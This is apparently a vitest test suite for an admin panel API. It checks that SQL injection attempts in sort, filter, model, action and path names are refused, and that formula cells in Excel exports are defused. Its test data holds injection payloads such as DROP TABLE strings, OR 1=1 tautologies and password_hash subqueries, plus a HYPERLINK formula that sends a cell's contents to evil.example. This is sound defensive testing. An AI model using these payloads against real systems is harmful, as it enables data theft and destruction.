// Injection: SQL in sort, filter, model, action and path names is refused before any SQL is built;
// values are bound parameters; spreadsheet formulas in exported cells are defused.
import ExcelJS from 'exceljs';
import type { Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../server/helpers';
import { expectNoLeak, expectRefused, get, post, rowCounts } from './support';

let t: TestApp;
let db: Kysely<any>;
let admin: string;
const TABLES = ['users', 'admins', 'roles', 'admin_tokens', 'notes', 'orders'];
let before: Record<string, number>;

beforeAll(async () => {
  t = await createTestApp({ models: true });
  db = t.db as Kysely<any>;
  admin = await t.login();
  before = await rowCounts(t.db, TABLES);
});
afterAll(async () => {
  // Whatever was tried above, every table is still there with every row.
  expect(await rowCounts(t.db, TABLES)).toEqual(before);
  await t.close();
});

const search = (body: Record<string, unknown>) => post(t, 'search', body, admin);

describe('sort names', () => {
  it.each([
    ['id; DROP TABLE users--', 'This list cannot be sorted by that column.'],
    ["email' OR '1'='1", 'This list cannot be sorted by that column.'],
    ['(SELECT password_hash FROM admins LIMIT 1)', 'This list cannot be sorted by that column.'],
    ['first_name desc, (select 1)', 'This list cannot be sorted by that column.'],
    ['deleted_at', 'This list cannot be sorted by "deleted_at".'],
    ['image', 'This list cannot be sorted by "image".'],
    ['phone', 'This list cannot be sorted by "phone".'],
  ])('refuses sortBy %j with 400', async (sortBy, message) => {
    const res = await search({ model: 'users', sortBy });
    expectRefused(res, 400, message);
    expectNoLeak(res);
  });

  it('refuses an undeclared column of a hidden secret (admins.password_hash)', async () => {
    const res = await search({ model: 'admins', sortBy: ['email', 'password_hash'], sortDesc: [false, true] });
    expectRefused(res, 400, 'This list cannot be sorted by "password_hash".');
  });

  it.each([
    [{ sortBy: { column: 'id' } }],
    [{ sortBy: ['email'], sortDesc: ['desc; DROP TABLE users'] }],
    [{ sortBy: ['email', 'email', 'email', 'email', 'email', 'email'] }],
  ])('refuses malformed sort terms %j with 400', async (sort) => {
    const res = await search({ model: 'users', ...sort });
    expectRefused(
      res,
      400,
      'sortBy must be a column name or a list of them, and sortDesc true/false or a list of them.',
    );
  });

  it('refuses the same sort in an export before anything is written', async () => {
    const res = await search({ model: 'users', sortBy: 'id; DROP TABLE users', export_format: 'excel' });
    expectRefused(res, 400, 'This list cannot be sorted by that column.');
    expect(res.headers['content-type']).toMatch(/^application\/json/);
  });
});

describe('filter names and values', () => {
  it.each([
    ["name' OR 1=1 --", 'Unknown filter.'],
    ['1=1); DROP TABLE users; --', 'Unknown filter.'],
    ['password_hash', 'Unknown filter "password_hash".'],
    ['deleted_at', 'Unknown filter "deleted_at".'],
    ['wallet_balance', 'Unknown filter "wallet_balance".'],
  ])('refuses the filter name %j with 400', async (name, message) => {
    const res = await search({ model: 'users', filters: { [name]: 'x' } });
    expectRefused(res, 400, message);
    expectNoLeak(res);
  });

  it.each([
    [{ status: "active' OR '1'='1" }, 'Invalid value for the Status filter.'],
    [{ enabled: '1 OR 1=1' }, 'Invalid value for the Enabled filter.'],
    [{ wallet_balance_from: '0; DROP TABLE users' }, 'Invalid value for the Wallet balance filter.'],
    [{ created_at_from: "2024-01-01' OR '1'='1" }, 'Invalid value for the Created at filter.'],
    [{ name: { $ne: null } }, 'Invalid value for the Name filter.'],
  ])('refuses the value in %j with 400', async (filters, message) => {
    const res = await search({ model: 'users', filters });
    expectRefused(res, 400, message);
  });

  it('refuses a remote filter value that is not an id', async () => {
    const res = await search({ model: 'admins', filters: { role_id: '1 OR 1=1' } });
    expectRefused(res, 400, 'Invalid value for the Role filter.');
  });

  it.each([["' OR '1'='1"], ['%'], ['_'], ["\\' OR 1=1 --"]])(
    'binds the text filter %j as plain text (no match)',
    async (text) => {
      const res = await search({ model: 'users', filters: { name: text } });
      expect(res.statusCode).toBe(200);
      expect(res.json().data.results.total).toBe(0);
    },
  );

  it('refuses unknown keys of the search body', async () => {
    expectRefused(await search({ model: 'users', where: '1=1' }), 400, 'The where field is not allowed.');
    expectRefused(await search({ model: 'users', 'x OR 1=1': 1 }), 400, 'The ? field is not allowed.');
  });
});

describe('model, action, picker and path names', () => {
  it.each([
    ['users; DROP TABLE users', 'Unknown model.'],
    ["users' --", 'Unknown model.'],
    ['sqlite_master', 'Unknown model "sqlite_master".'],
    ['admin_tokens', 'Unknown model "admin_tokens".'],
  ])('refuses the model %j with 404', async (model, message) => {
    expectRefused(await search({ model }), 404, message);
  });

  it('refuses a model that is not a string', async () => {
    expectRefused(await search({ model: { $gt: '' } }), 404, 'Unknown model.');
  });

  it('refuses an action name carrying SQL', async () => {
    const res = await search({ model: 'users', id: [1], action: "delete'; DROP TABLE users; --" });
    expectRefused(res, 400, 'Unknown action.');
  });

  it.each([['1 OR 1=1'], ['1;DROP TABLE users'], ['0x10'], ['-1']])(
    'refuses the ids %j of a bulk action',
    async (id) => {
      const res = await search({ model: 'users', id: [id], action: 'delete' });
      expectRefused(res, 400, 'id must be a positive whole number or a list of them.');
    },
  );

  it.each([
    [`getSingle/users/${encodeURIComponent('1 OR 1=1')}`, 400, 'The id field is invalid.'],
    [`getSingle/${encodeURIComponent('users;--')}/1`, 404, 'Unknown model.'],
    [`searchSingle/admins/password_hash/a`, 400, 'The password_hash field cannot be searched.'],
    [`searchSingle/users/${encodeURIComponent("email' OR 1=1")}/a`, 400, 'The ? field cannot be searched.'],
  ])('refuses GET %s', async (path, status, message) => {
    const res = await get(t, path, admin);
    expectRefused(res, status, message);
    expectNoLeak(res);
  });

  it('binds a picker query as text', async () => {
    const res = await post(t, 'search-picker', { model: 'users', query: "' OR '1'='1" }, admin);
    expect(res.statusCode).toBe(200);
    expect(res.json().data).toEqual({});
  });

  it('refuses a field-search field that is not declared', async () => {
    const res = await post(
      t,
      'field-search',
      { model: 'admins', field_name: 'password_hash', query: '$argon2' },
      admin,
    );
    expectRefused(res, 400, 'The password_hash field cannot be searched.');
  });
});

describe('export formulas', () => {
  const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

  async function exportRows(model: string, filters: Record<string, unknown>): Promise<ExcelJS.Worksheet> {
    const res = await search({ model, filters, export_format: 'excel' });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    return workbook.worksheets[0];
  }

  function textCells(sheet: ExcelJS.Worksheet): ExcelJS.Cell[] {
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row, number) => number > 1 && row.eachCell((cell) => cells.push(cell)));
    return cells;
  }

  it('prefixes cells that start with = + - @ tab or CR with a quote, never writing a formula', async () => {
    const now = new Date().toISOString();
    await db
      .insertInto('users')
      .values(
        HOSTILE.map((text, index) => ({
          first_name: text,
          last_name: 'Formulaic',
          email: `formula${index}@evil.example`,
          phone: text,
          gender: 'male',
          image: null,
          status: 'active',
          wallet_balance: 0,
          enabled: 1,
          created_at: now,
          updated_at: now,
          deleted_at: null,
        })),
      )
      .execute();
    try {
      const sheet = await exportRows('users', { name: 'Formulaic' });
      expect(sheet.rowCount).toBe(HOSTILE.length + 1);
      const cells = textCells(sheet);
      for (const cell of cells) {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string')
          expect(cell.value, JSON.stringify(cell.value)).not.toMatch(/^[=+\-@\t\r\n]/);
      }
      // XML stores a carriage return as a line feed; the quote in front is what counts.
      const texts = cells.map((cell) =>
        typeof cell.value === 'string' ? cell.value.replace(/\n/g, '\r') : cell.value,
      );
      for (const text of HOSTILE) expect(texts).toContain(`'${text}`);
      expect(texts).toContain(`'${HOSTILE[0]} Formulaic`);
    } finally {
      // Remove them again so the row counts checked at the end hold.
      await db.deleteFrom('users').where('last_name', '=', 'Formulaic').execute();
    }
  });

  it('defuses formulas that an HTML cell turns into text', async () => {
    const complaint = await db
      .selectFrom('complaints')
      .select('id')
      .where('deleted_at', 'is', null)
      .orderBy('id')
      .executeTakeFirstOrThrow();
    await db
      .updateTable('complaints')
      .set({ description: '<p>=1+2</p><p>cmd</p>' })
      .where('id', '=', complaint.id)
      .execute();
    const sheet = await exportRows('complaints', {});
    const texts = textCells(sheet).map((cell) => cell.value);
    expect(texts).toContain("'=1+2 cmd");
    expect(texts.filter((value) => typeof value === 'string' && /^[=+\-@\t\r]/.test(value))).toEqual([]);
  });
});
